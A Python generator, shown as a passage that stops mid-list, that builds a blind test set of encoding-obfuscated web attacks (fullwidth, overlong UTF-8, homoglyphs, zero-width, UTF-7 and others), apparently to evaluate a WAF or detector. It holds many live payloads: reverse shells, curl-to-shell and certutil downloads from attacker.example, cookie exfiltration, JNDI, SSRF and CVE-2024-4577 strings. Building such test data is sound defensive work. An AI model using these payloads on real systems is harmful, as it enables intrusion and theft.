"""Blind set ninety-fifth: attacks written through the Unicode and legacy encodings that a server, framework or
database on the path decodes before the payload runs, with benign requests that use the same characters
innocently (text in many scripts, Japanese fullwidth punctuation, curly quotes, ligatures, ZWJ emoji and Indic
joiners, soft hyphens, mathematical symbols, RTL text with marks, percent-encoded UTF-8 links).

Families: sqli, xss, php, rce, lfi, rfi, java, generic (Node.js code, prototype pollution, SSRF), ssti. Each family
has ordinary payloads (BASE); every technique writes some of them through its encoding, and the sub-family names
the technique and the family ("fullwidth-sqli", "iis-u-encoding-lfi", ...). Techniques:
- iis-u-encoding: IIS / ASP.NET `%uXXXX` escapes (also fullwidth code points IIS best-fits to ASCII).
- overlong-utf8: overlong two-, three- and four-byte UTF-8 (`%c0%ae`, `%e0%80%af`, `%f0%80%80%af`), and the
  Nimda-era `..%c1%9c..` paths.
- double-encoding: `%25XX` (and triple `%2525XX`) decoded twice by an app behind the server.
- mixed-encoding: single, double, `%u` and double `%u` escapes and case changes mixed in one payload.
- fullwidth: U+FF01-U+FF5E and U+3000, folded by NFKC.
- nfkc-compat: other compatibility characters NFKC folds: mathematical bold, sans-serif, monospace and fraktur
  letters, circled letters, superscripts, ligatures, small forms (U+FE50-U+FE6B), two-dot leader, parenthesized
  digits.
- homoglyph: quotes and slashes a database, PowerShell or a normaliser accepts (U+2018/2019, U+02BC, U+FF07,
  U+201C/201D, U+02BA, U+2032/2033, U+2215, U+29F8, U+2044, U+29F5, U+2216).
- zero-width: U+200B, U+00AD, U+FEFF, U+200C, U+200D, U+2060 inside keywords (stripped by sanitisers).
- combining-mark: combining marks on keyword letters, and precomposed characters (U+226E, U+226F, U+2260) whose
  decomposition strips to `<`, `>`, `=`.
- utf7: `+ADw-` fields for a UTF-7 page (xss), and whole bodies declared UTF-7 (Content-Type charset, or an XML
  declaration; one XXE).
- utf16-body: the whole body in UTF-16LE/BE or UTF-32LE/BE, declared in Content-Type's charset (and the XML
  declaration).
- json-escape: JSON `\\uXXXX` escapes, `\\/`, surrogate pairs of mathematical letters, escaped fullwidth forms.
- html-entity: decimal, hex, zero-padded and named HTML entities (XML parsers and HTML unescapers decode them;
  for xss, entities inside attributes a browser decodes).
- js-escape: JavaScript `\\xHH`, `\\uXXXX`, `\\u{...}` escapes (also in identifiers), PHP, Python/Jinja, FreeMarker,
  Nashorn and fastjson escapes.
- css-escape: CSS hex escapes in style attributes and sheets (xss).
- best-fit: Windows best-fit mappings to `"`, `'`, `<`, `>`, `/` and `\\` in a legacy code page (U+FF02, U+02BC,
  U+02B9, U+02C2/U+02C3, U+2039, U+00A5, U+20A9, U+2215, U+2044), and PHP-CGI's soft hyphen (CVE-2024-4577).

Placements (spread evenly, each payload in one place, allocated to the least-used place its encoding fits):
query of /api/users, form of /admin/users/search with csrf_token, JSON of /api/users, the /oauth/token form,
a cookie, the User-Agent, the Referer, a parameter name, the URL path, a multipart field and an XML body.
Percent-level tricks go only where a percent decoder runs (query, forms, cookie, Referer, parameter name, path);
whole-body charsets only to bodies; JSON escapes only where JSON is parsed (JSON body, or JSON in a query, form,
cookie, multipart part or the OIDC `claims` parameter).

Authorship and independence: written from general knowledge of each encoding and family and the brief alone; no
WAF rule, ruleset, regression test, other blind set or public payload list was read. Measured once on unchanged
code. Deterministic (no clock, no unseeded randomness).
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import string
import unicodedata
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "ninetyfifth"

UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/126.0.0.0 Safari/537.36")
UA_FIREFOX = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0"

# ---------------------------------------------------------------------------------------------------------------
# The families' ordinary payloads
# ---------------------------------------------------------------------------------------------------------------
BASE: dict[str, list[str]] = {
    "sqli": [
        "' OR '1'='1",
        "' OR 1=1-- -",
        "1' UNION SELECT username, password FROM users--",
        "admin'--",
        "1; DROP TABLE users--",
        "' AND SLEEP(5)-- -",
        "1' AND extractvalue(1, concat(0x7e, (SELECT @@version)))--",
        "' UNION ALL SELECT NULL, table_name FROM information_schema.tables--",
        "1 AND 1=CONVERT(int, (SELECT TOP 1 name FROM sysobjects))",
        "'; EXEC xp_cmdshell 'whoami'--",
        "1' WAITFOR DELAY '0:0:5'--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(document.domain)>",
        "\"><script>alert(document.cookie)</script>",
        "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "'><img src=x onerror=fetch('//attacker.example/'+document.cookie)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "<?= `id` ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "eval($_POST['x']);",
        "system('cat /etc/passwd');",
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "assert($_REQUEST['a'])",
        "phar://uploads/avatar.jpg/x.php",
        "shell_exec('whoami')",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
        "passthru($_GET['cmd']);",
    ],
    "rce": [
        "; cat /etc/passwd",
        "| id",
        "$(whoami)",
        "`uname -a`",
        "&& curl http://attacker.example/x.sh | sh",
        "; nc -e /bin/sh 203.0.113.5 4444",
        "|| ping -c 5 203.0.113.5",
        "& type C:\\Windows\\win.ini",
        "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "$(wget -qO- http://attacker.example/a | bash)",
        "| powershell -enc SQBFAFgA",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "../../../../../etc/shadow",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "../../../proc/self/environ",
        "....//....//....//etc/passwd",
        "../../../var/log/nginx/access.log",
        "..\\..\\..\\..\\boot.ini",
        "/proc/self/cmdline",
        "../../../../etc/hosts",
        "../WEB-INF/web.xml",
    ],
    "rfi": [
        "http://attacker.example/shell.txt?",
        "https://attacker.example/backdoor.php",
        "ftp://attacker.example/pub/c99.txt",
        "http://203.0.113.7/r57.txt?",
        "\\\\attacker.example\\share\\shell.php",
        "//attacker.example/inc.php",
        "http://attacker.example/payload.txt#",
        "https://pastebin.example/raw/shell?",
        "http://attacker.example:8080/cmd.php?c=id",
        "https://attacker.example/evil.jsp?",
        "ftps://203.0.113.9/x.php?",
    ],
    "java": [
        "${jndi:ldap://attacker.example/a}",
        "${jndi:rmi://attacker.example:1099/obj}",
        "${jndi:dns://attacker.example/x}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T(java.lang.System).getenv()}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "java.lang.Runtime.getRuntime().exec(\"whoami\")",
        "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
        "${${lower:j}ndi:ldap://attacker.example/a}",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\"}",
    ],
    "generic": [
        "require('child_process').exec('id')",
        "this.constructor.constructor('return process')()",
        "__proto__[isAdmin]=true",
        "constructor[prototype][admin]=1",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:6379/",
        "gopher://127.0.0.1:6379/_INFO",
        "process.mainModule.require('fs').readFileSync('/etc/passwd')",
        "http://metadata.google.internal/computeMetadata/v1/",
        "file:///etc/passwd",
        "{\"__proto__\":{\"isAdmin\":true}}",
    ],
    "ssti": [
        "{{7*7}}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}",
        "<%= system('id') %>",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "{php}echo `id`;{/php}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "{{constructor.constructor('return process')()}}",
    ],
}
FAMILIES = list(BASE)

# ---------------------------------------------------------------------------------------------------------------
# Character helpers
# ---------------------------------------------------------------------------------------------------------------
SAFE = frozenset(string.ascii_letters + string.digits + "-_.~")
CORE = frozenset("'\"<>/\\;|&$`{}()=:.")   # what a filter looks for; encoded by every technique
KW_RE = re.compile(r"[A-Za-z]{2,}")
STOP = {"attacker", "example", "users", "uploads", "com", "www", "txt"}


def _kw_spans(p: str) -> list[tuple[int, int]]:
    return [(m.start(), m.end()) for m in KW_RE.finditer(p) if m.group().lower() not in STOP]


def _kw_positions(p: str) -> set[int]:
    return {j for a, b in _kw_spans(p) for j in range(a, b)}


def _kw_firsts(p: str) -> set[int]:
    return {a for a, _ in _kw_spans(p)}


def _special(c: str, fam: str) -> bool:
    return c not in SAFE or (c == "." and fam in ("lfi", "rfi"))


def _pct(c: str, lower: bool = False) -> str:
    s = "".join(f"%{b:02X}" for b in c.encode())
    return s.lower() if lower else s


def _ol2(c: str) -> str:
    b = ord(c)
    return f"%{0xC0 | (b >> 6):02X}%{0x80 | (b & 0x3F):02X}"


def _ol3(c: str) -> str:
    b = ord(c)
    return f"%E0%{0x80 | ((b >> 6) & 0x3F):02X}%{0x80 | (b & 0x3F):02X}"


def _ol4(c: str) -> str:
    b = ord(c)
    return f"%F0%80%{0x80 | ((b >> 6) & 0x3F):02X}%{0x80 | (b & 0x3F):02X}"


def _fw(c: str) -> str:
    if c == " ":
        return "\u3000"
    return chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c


def utf7(s: str, direct: str = " ") -> str:
    """UTF-7 with every character but letters, digits and `direct` in modified-base64 runs."""
    out: list[str] = []
    run: list[str] = []

    def flush() -> None:
        if run:
            raw = "".join(run).encode("utf-16-be")
            out.append("+" + base64.b64encode(raw).decode().rstrip("=") + "-")
            run.clear()

    for c in s:
        if c.isascii() and (c.isalnum() or c in direct):
            flush()
            out.append(c)
        else:
            run.append(c)
    flush()
    return "".join(out)


# ---------------------------------------------------------------------------------------------------------------
# Percent-level techniques (the payload is the wire form)
# ---------------------------------------------------------------------------------------------------------------
def t_iis(p: str, fam: str, v: int) -> str:
    m = v % 4
    firsts = _kw_firsts(p) if m == 1 else set()
    out = []
    for j, c in enumerate(p):
        if j in firsts or _special(c, fam):
            code = ord(c) + 0xFEE0 if m == 2 and c in CORE and 0x21 <= ord(c) <= 0x7E else ord(c)
            out.append(f"%u{code:04x}" if m == 3 else f"%u{code:04X}")
        else:
            out.append(c)
    return "".join(out)


def t_overlong(p: str, fam: str, v: int) -> str:
    m = v % 4
    out = []
    for c in p:
        if not _special(c, fam):
            out.append(c)
        elif m == 0:
            out.append(_ol2(c))
        elif m == 1:
            out.append(_ol3(c) if c in CORE else _pct(c))
        elif m == 2:
            out.append((_ol2(c) if c in CORE else _pct(c)).lower())
        else:
            out.append(_ol4(c) if c in CORE else _ol2(c))
    return "".join(out)


def t_double(p: str, fam: str, v: int) -> str:
    m = v % 4
    firsts = _kw_firsts(p) if m == 3 else set()
    out = []
    for j, c in enumerate(p):
        if j in firsts:
            out.append("%25" + _pct(c)[1:])
        elif not _special(c, fam):
            out.append(c)
        elif m == 0 or m == 3:
            out.append("%25" + _pct(c)[1:] if c in CORE else _pct(c))
        elif m == 1:
            out.append("%25" + _pct(c, lower=True)[1:])
        else:
            out.append("%2525" + _pct(c)[1:] if c in CORE else "%25" + _pct(c)[1:])
    return "".join(out)


def t_mixed(p: str, fam: str, v: int) -> str:
    encoders: list[Callable[[str], str]] = [
        _pct, lambda c: "%25" + _pct(c)[1:], lambda c: f"%u{ord(c):04X}", lambda c: _pct(c, lower=True),
        lambda c: f"%25u{ord(c):04x}"]
    kw = _kw_positions(p)
    out = []
    k = 0
    for j, c in enumerate(p):
        if _special(c, fam):
            out.append(encoders[(k + v) % len(encoders)](c))
            k += 1
        elif j in kw and (j + v) % 7 == 0:
            out.append(_pct(c))
        elif j in kw and (j + v) % 3 == 0:
            out.append(c.swapcase())
        else:
            out.append(c)
    return "".join(out)


# ---------------------------------------------------------------------------------------------------------------
# Character-level techniques (the payload is the text the application field receives)
# ---------------------------------------------------------------------------------------------------------------
def t_fullwidth(p: str, fam: str, v: int) -> str:
    m = v % 4
    kw = _kw_positions(p)
    out = []
    for j, c in enumerate(p):
        if (m == 0 or (m == 3 and c != " ") or (m == 1 and not c.isalnum() and c != " ")
                or (m == 2 and j in kw)):
            out.append(_fw(c))
        else:
            out.append(c)
    return "".join(out)


def _alpha(base_lower: int, base_upper: int) -> Callable[[str], str]:
    return lambda c: chr((base_lower if c.islower() else base_upper) + ord(c.lower()) - ord("a"))


SUPER = dict(zip("abcdefghijklmnoprstuvwxyzABDEGHIJKLMNOPRTUW",
                 "ᵃᵇᶜᵈᵉᶠᵍʰⁱʲᵏˡᵐⁿᵒᵖʳˢᵗᵘᵛʷˣʸᶻᴬᴮᴰᴱᴳᴴᴵᴶᴷᴸᴹᴺᴼᴾᴿᵀᵁᵂ", strict=True))
STYLES: list[Callable[[str], str]] = [
    _alpha(0x1D41A, 0x1D400),   # mathematical bold
    _alpha(0x24D0, 0x24B6),     # circled
    _alpha(0x1D68A, 0x1D670),   # monospace
    lambda c: SUPER.get(c, c),  # superscripts (q, C, F, Q, S, V, X, Y, Z stay)
    _alpha(0x1D5EE, 0x1D5D4),   # sans-serif bold
    _alpha(0x1D586, 0x1D56C),   # bold fraktur
]
SMALL = {"<": "\ufe64", ">": "\ufe65", "(": "\ufe59", ")": "\ufe5a", "{": "\ufe5b", "}": "\ufe5c", ";": "\ufe54",
         ":": "\ufe55", "?": "\ufe56", "!": "\ufe57", "#": "\ufe5f", "&": "\ufe60", "*": "\ufe61", "+": "\ufe62",
         "-": "\ufe63", "=": "\ufe66", "\\": "\ufe68", "$": "\ufe69", "%": "\ufe6a", "@": "\ufe6b", ",": "\ufe50",
         ".": "\ufe52", "_": "\ufe4d"}
LIGATURES = [("ffi", "\ufb03"), ("ffl", "\ufb04"), ("ff", "\ufb00"), ("fi", "\ufb01"), ("fl", "\ufb02"),
             ("st", "\ufb06")]


def t_nfkc(p: str, fam: str, v: int) -> str:
    m = v % 6
    kw = _kw_positions(p)
    style = STYLES[m]
    out: list[str] = []
    j = 0
    while j < len(p):
        c = p[j]
        if m in (1, 5):
            lig = next((lg for seq, lg in LIGATURES
                        if p.startswith(seq, j) and all(k in kw for k in range(j, j + len(seq)))), None)
            if lig is not None:
                out.append(lig)
                j += len(unicodedata.normalize("NFKC", lig))
                continue
        if m in (2, 4) and p.startswith("..", j):
            out.append("\u2025")
            j += 2
            continue
        if m == 3 and p.startswith("(1)", j):
            out.append("\u2474")
            j += 3
            continue
        if c.isascii() and c.isalpha() and j in kw:
            out.append(style(c))
        elif m == 2 and c.isdigit():
            out.append(chr(0x1D7D8 + int(c)))
        elif m in (0, 3, 5) and c in SMALL:
            out.append(SMALL[c])
        else:
            out.append(c)
        j += 1
    return "".join(out)


HOMO_SQ = [["\u2019"], ["\u2018", "\u2019"], ["\u02bc"], ["\uff07"], ["\u2032"]]
HOMO_DQ = [["\u201d"], ["\u201c", "\u201d"], ["\u02ba"], ["\uff02"], ["\u2033"]]
HOMO_SL = ["\u2215", "\u29f8", "\u2044", "\uff0f", "\u2215"]
HOMO_BS = ["\u29f5", "\u2216", "\ufe68", "\uff3c", "\u29f9"]


def t_homoglyph(p: str, fam: str, v: int) -> str:
    m = v % 5
    out = []
    nsq = ndq = 0
    for c in p:
        if c == "'":
            out.append(HOMO_SQ[m][nsq % len(HOMO_SQ[m])])
            nsq += 1
        elif c == '"':
            out.append(HOMO_DQ[m][ndq % len(HOMO_DQ[m])])
            ndq += 1
        elif c == "/":
            out.append(HOMO_SL[m])
        elif c == "\\":
            out.append(HOMO_BS[m])
        else:
            out.append(c)
    return "".join(out)


ZW = ["\u200b", "\u00ad", "\ufeff", "\u200c", "\u200d", "\u2060"]


def t_zero_width(p: str, fam: str, v: int) -> str:
    z = ZW[v % len(ZW)]
    spans = _kw_spans(p) or [(0, 2)]   # no letters ("{{7*7}}"): split the opening pair
    inserts: set[int] = set()
    for a, b in spans:
        if v % 2 == 0:
            inserts.add(a + min(2, b - a - 1))
        else:
            inserts.update(range(a + 1, b))
    return "".join((z + c if j in inserts else c) for j, c in enumerate(p))


MARKS = ["\u0300", "\u0301", "\u0302", "\u0308", "\u0327", "\u0323"]
NOT_SIGNS = {"<": "\u226e", ">": "\u226f", "=": "\u2260"}


def t_combining(p: str, fam: str, v: int) -> str:
    m = v % 4
    kw = _kw_positions(p) or {0}   # no letters ("{{7*7}}"): mark the first character
    firsts = _kw_firsts(p) or {0}
    out = []
    k = 0
    for j, c in enumerate(p):
        if m == 2 and c in NOT_SIGNS:
            out.append(NOT_SIGNS[c])
            continue
        out.append(c)
        if m == 0 and j in firsts:
            out.append("\u0301")
        elif m == 1 and j in kw:
            out.append(MARKS[k % len(MARKS)])
            k += 1
        elif m == 2 and j in firsts:
            out.append("\u0307")
        elif m == 3 and j in kw:
            out.append("\u0336")
    return "".join(out)


NAMED = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "&": "&amp;", "/": "&sol;", "(": "&lpar;",
         ")": "&rpar;", ":": "&colon;", ";": "&semi;", ".": "&period;", "{": "&lbrace;", "}": "&rbrace;",
         "$": "&dollar;", "[": "&lsqb;", "]": "&rsqb;", "=": "&equals;", "|": "&vert;", "`": "&grave;",
         "\\": "&bsol;"}
HCORE = CORE | frozenset("[]")


def t_html(p: str, fam: str, v: int) -> str:
    m = v % 6
    firsts = _kw_firsts(p) if m == 5 else set()
    out = []
    for j, c in enumerate(p):
        if c == "." and fam not in ("lfi", "rfi"):
            out.append(c)
        elif c in HCORE or j in firsts:
            out.append([f"&#{ord(c)};", f"&#x{ord(c):x};", NAMED.get(c, f"&#{ord(c)};"), f"&#{ord(c):07d};",
                        f"&#X{ord(c):06X};", f"&#{ord(c)};"][m])
        else:
            out.append(c)
    return "".join(out)


def _u16(c: str, lower: bool = False) -> str:
    raw = c.encode("utf-16-be")
    s = "".join(f"\\u{int.from_bytes(raw[i:i + 2], 'big'):04X}" for i in range(0, len(raw), 2))
    return s.lower() if lower else s


def t_json(p: str, fam: str, v: int) -> str:
    """The payload as JSON string content (what goes between the quotes), with escapes the parser undoes."""
    m = v % 6
    kw = _kw_positions(p)
    out = []
    for j, c in enumerate(p):
        if (m == 0 and c in CORE) or (m == 1 and j in kw):
            out.append(_u16(c))
        elif m == 2 and c == "/":
            out.append("\\/")
        elif m == 2 and c in CORE:
            out.append(_u16(c, lower=True))
        elif m == 3 and j in kw:
            out.append(_u16(STYLES[0](c)).lower())
        elif (m == 3 and c in CORE) or m == 4:
            out.append(_u16(c))
        elif m == 5 and c in CORE:
            out.append(_u16(_fw(c)))
        elif c in '"\\':
            out.append("\\" + c)
        else:
            out.append(c)
    return "".join(out)


# ---------------------------------------------------------------------------------------------------------------
# Hand-written payloads (techniques that need the family's own syntax)
# ---------------------------------------------------------------------------------------------------------------
HTML_XSS = [
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;document.cookie&rpar;\">x</a>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<form action=\"java&Tab;script:alert(1)\"><button>x</button></form>",
    "&lt;script&gt;alert(document.domain)&lt;/script&gt;",
]
JS = {
    "xss": [
        "<img src=x onerror=\"\\u0061lert(1)\">",
        "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(document.domain)</script>",
        "<svg onload=\"eval('\\x61lert(1)')\">",
        "<a href=\"javascript:\\u0061lert(1)\">x</a>",
        "<script>window['\\x61\\x6c\\x65\\x72\\x74'](1)</script>",
        "<img src=x onerror=\"eval('\\u{61}lert(document.cookie)')\">",
        "<script>location='\\x6a\\x61\\x76\\x61\\x73\\x63\\x72\\x69\\x70\\x74\\x3aalert(1)'</script>",
    ],
    "generic": [
        "require('\\x63hild_process').exec('id')",
        "this['\\x63onstructor']['\\x63onstructor']('return \\x70rocess')()",
        "\\u0065val('require(\"child_process\").execSync(\"id\")')",
        "global['\\u0070rocess']['mainModule']['require']('child_process').execSync('id')",
        "Function('\\x72eturn process')().mainModule.require('fs').readFileSync('/etc/passwd')",
        "require('\\u{63}hild_process').spawnSync('sh',['-c','id'])",
        "[]['\\x63onstructor']['\\x63onstructor']('\\x72eturn this.process')().exit()",
    ],
    "java": [
        "java.lang.\\u0052untime.getRuntime().exec('id')",
        "Java.type('java.lang.\\u0052untime').getRuntime().exec('whoami')",
        "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.\\u0052untime"
        ".getRuntime().exec(\"id\")')",
        "{\"\\x40type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\","
        "\"autoCommit\":true}",
        "{\"@\\u0074ype\":\"org.apache.commons.configuration.JNDIConfiguration\","
        "\"prefix\":\"ldap://attacker.example/a\"}",
        "{\"@type\":\"com.sun.rowset.\\u004adbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example/x\","
        "\"autoCommit\":true}",
        "this.engine.factory.scriptEngine.eval('java.lang.\\x52untime.getRuntime().exec(\"id\")')",
    ],
    "php": [
        "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');",
        "\"\\163\\171\\163\\164\\145\\155\"(\"cat /etc/passwd\");",
        "\"\\u{73}\\u{79}\\u{73}\\u{74}\\u{65}\\u{6d}\"('whoami');",
        "$f=\"\\x73hell_exec\";echo $f(\"id\");",
        "\"\\x61\\x73\\x73\\x65\\x72\\x74\"($_POST['x']);",
        "<?php $a=\"\\x70\\x61\\x73\\x73\\x74\\x68\\x72\\x75\";$a('id'); ?>",
        "eval(\"\\x73ystem('uname -a');\");",
    ],
    "ssti": [
        "{{''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']()}}",
        "{{request|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
        "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses"
        "\\x5f\\x5f')()}}",
        "{{lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f')|attr('\\u005f\\u005fgetitem\\u005f\\u005f')('os')"
        "|attr('popen')('id')|attr('read')()}}",
        "{{cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.popen('id').read()}}",
        "${\"\\x66reemarker.template.utility.Execute\"?new()(\"id\")}",
        "{{range.constructor('\\x72eturn process.mainModule.require(\"child_process\").execSync(\"id\")')()}}",
    ],
}
CSS_XSS = [
    "<div style=\"background:url(\\6a\\61\\76\\61\\73\\63\\72\\69\\70\\74\\3a alert(1))\">x</div>",
    "<style>@\\69mport 'http://attacker.example/x.css';</style>",
    "<div style=\"width:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))\">x</div>",
    "<style>body{background-image:\\75\\72\\6c(\\6a\\61vascript:alert(1))}</style>",
    "<p style=\"behavior:\\75\\72\\6c(//attacker.example/x.htc)\">x</p>",
    "<div style=\"-moz-binding:\\75rl(//attacker.example/x.xml#xss)\">x</div>",
    "<style>input[name=csrf_token][value^=\\61]{background:\\75rl(https://attacker.example/leak?a)}</style>",
    "<div style=\"x:ex\\p\\r\\ession(alert(1))\">x</div>",
]
BEST_FIT = {
    "sqli": [
        "\u02bc OR 1=1--",
        "admin\uff07--",
        "\u02b9 UNION SELECT name, password_hash FROM users--",
        "1\uff07 AND 1=CONVERT(int, @@version)--",
        "\u2032; EXEC xp_cmdshell \u2032whoami\u2032--",
        "\u02bc; WAITFOR DELAY \u02bc0:0:5\u02bc--",
    ],
    "xss": [
        "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
        "\uff1cimg src=x onerror=alert(1)\uff1e",
        "\u2039svg onload=alert(1)\u203a",
        "\uff02\uff1e\uff1cscript\uff1ealert(document.cookie)\uff1c/script\uff1e",
        "\u02c2iframe src=javascript:alert(1)\u02c3",
        "\u02ba onmouseover=\u02baalert(1)",
    ],
    "php": [
        "\uff1c\uff1fphp system(\uff02id\uff02); \uff1f\uff1e",
        "\uff1c\uff1f\uff1d`id`\uff1f\uff1e",
        "\uff04_GET\uff3b\uff07c\uff07\uff3d\uff08\uff04_GET\uff3b\uff07a\uff07\uff3d\uff09;",
    ],
    "rce": [
        "report.pdf\uff02 \uff06 whoami \uff06 \uff02",
        "x\uff02 | type C:\u00a5Windows\u00a5win.ini | \uff02",
        "a\uff02 \uff06\uff06 powershell -c iwr http://attacker.example/a.ps1|iex \uff06\uff06 \uff02",
        "\uff02 -o C:\u00a5inetpub\u00a5wwwroot\u00a5x.aspx http://attacker.example/x \uff02",
        "test\uff02 \uff06 net localgroup administrators \uff06 \uff02",
        "x\uff02 \uff06 certutil -urlcache -f http://attacker.example/a.exe a.exe \uff06 \uff02",
    ],
    "lfi": [
        "..\u00a5..\u00a5..\u00a5..\u00a5windows\u00a5win.ini",
        "..\u20a9..\u20a9..\u20a9windows\u20a9system32\u20a9drivers\u20a9etc\u20a9hosts",
        "..\uff3c..\uff3c..\uff3cinetpub\uff3cwwwroot\uff3cweb.config",
        "..\u2215..\u2215..\u2215..\u2215etc\u2215passwd",
        "C:\uffe5Windows\uffe5System32\uffe5config\uffe5SAM",
        "..\u2044..\u2044..\u2044boot.ini",
    ],
    "rfi": [
        "\u00a5\u00a5attacker.example\u00a5share\u00a5shell.php",
        "\u20a9\u20a9attacker.example\u20a9payload\u20a9cmd.php",
        "http:\u2215\u2215attacker.example\u2215shell.txt?",
        "\uff3c\uff3cattacker.example\uff3cpub\uff3cc99.php",
        "https:\u2044\u2044attacker.example\u2044backdoor.php?",
        "\u00a5\u00a5203.0.113.7\u00a5share\u00a5r57.php",
    ],
}
# PHP-CGI on Windows: a soft hyphen (0xAD) best-fits to "-" and becomes a command-line switch (CVE-2024-4577)
BEST_FIT_PHP_WIRE = [
    "%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
    "%ADd+cgi.force_redirect%3D0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3D1+%ADd"
    "+auto_prepend_file%3Dphp://input",
    "%ADs",
]

# ---------------------------------------------------------------------------------------------------------------
# Items and placements
# ---------------------------------------------------------------------------------------------------------------
TEXT, WIRE, FRAG, BODY, RAWXML = "text", "wire", "frag", "body", "rawxml"
PLACES = ["query", "form", "json", "oauth-form", "cookie", "header:User-Agent", "header:Referer", "param-name",
          "path", "multipart-field", "xml"]
WIRE_PLACES = ["query", "form", "oauth-form", "cookie", "header:Referer", "param-name", "path"]
FRAG_PLACES = ["json", "query", "cookie", "form", "multipart-field", "oauth-form"]
BODY_PLACES = ["json", "form", "oauth-form", "xml", "multipart-field"]
ALLOWED = {TEXT: PLACES, WIRE: WIRE_PLACES, FRAG: FRAG_PLACES, BODY: BODY_PLACES, RAWXML: ["xml"]}
WIDE = ["utf-16le", "utf-16be", "utf-32le", "utf-32be"]


@dataclass
class Item:
    family: str
    sub: str
    payload: str
    kind: str
    codec: str = ""
    places: tuple[str, ...] = ()


def _pick(base: list[str], start: int, k: int) -> list[str]:
    return [base[(start + i) % len(base)] for i in range(min(k, len(base)))]


TransformT = Callable[[str, str, int], str]
GENERATED: list[tuple[str, TransformT, str, int]] = [
    ("iis-u-encoding", t_iis, WIRE, 7),
    ("overlong-utf8", t_overlong, WIRE, 7),
    ("double-encoding", t_double, WIRE, 6),
    ("mixed-encoding", t_mixed, WIRE, 6),
    ("fullwidth", t_fullwidth, TEXT, 8),
    ("nfkc-compat", t_nfkc, TEXT, 8),
    ("homoglyph", t_homoglyph, TEXT, 6),
    ("zero-width", t_zero_width, TEXT, 7),
    ("combining-mark", t_combining, TEXT, 6),
    ("json-escape", t_json, FRAG, 6),
    ("html-entity", t_html, TEXT, 6),
]
EXTRAS: dict[tuple[str, str], list[Item]] = {
    ("overlong-utf8", "lfi"): [
        Item("lfi", "", "..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+dir", WIRE, places=("path",)),
        Item("lfi", "", "..%c1%9c..%c1%9c..%c1%9cwinnt/system32/cmd.exe?/c+dir", WIRE, places=("path",)),
    ],
    ("double-encoding", "lfi"): [
        Item("lfi", "", "..%255c..%255c..%255cwinnt/system32/cmd.exe?/c+dir", WIRE, places=("path",)),
    ],
    ("iis-u-encoding", "lfi"): [
        Item("lfi", "", "..%u2216..%u2216..%u2216windows%u2216win.ini", WIRE),
        Item("lfi", "", "%u002e%u002e%u2215%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd", WIRE),
    ],
    ("iis-u-encoding", "xss"): [
        Item("xss", "", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", WIRE,
